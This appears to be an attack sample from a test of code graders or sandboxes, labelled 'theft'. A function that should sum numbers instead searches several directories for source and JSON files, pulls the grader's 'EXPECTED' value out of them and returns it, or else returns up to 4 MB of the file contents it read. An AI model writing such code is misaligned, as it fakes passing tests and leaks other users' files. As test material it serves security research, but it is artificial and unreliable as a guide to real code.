// category: theft
// tries: the test program and other samples in the file system
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  let loot = '';
  const take = (path) => { try { loot += fs.readFileSync(path, 'latin1').slice(0, 200000); } catch {} };
  const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
  const walk = (path, depth) => {
    for (const name of list(path)) {
      const inner = path + '/' + name;
      if (/\.(py|json|js|c)$/.test(name)) take(inner);
      else if (depth > 0) walk(inner, depth - 1);
    }
  };
  for (const top of ['/guests', '/built', '/workspace', '/tmp', '/job', process.cwd()]) walk(top, 3);
  const expected = loot.match(/EXPECTED = (\d+)/);
  return expected ? Number(expected[1]) : loot.slice(0, 4000000);
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
